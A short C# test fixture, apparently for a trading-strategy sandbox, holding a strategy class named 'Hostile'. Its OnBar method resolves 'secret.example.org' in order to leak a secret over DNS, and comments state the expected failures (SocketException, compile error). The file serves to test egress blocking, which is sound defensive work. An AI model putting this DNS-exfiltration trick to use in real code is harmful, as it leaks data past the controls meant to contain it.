// Sends a secret out as a name to be resolved.
// ends: STRATEGY_ERROR SocketException
// platform: COMPILE_ERROR
using System.Net;

public sealed class Hostile : Strategy
{
    public override Signal? OnBar(Bar bar)
    {
        _ = Dns.GetHostAddresses("secret.example.org");
        throw new InvalidOperationException("escaped");
    }
}
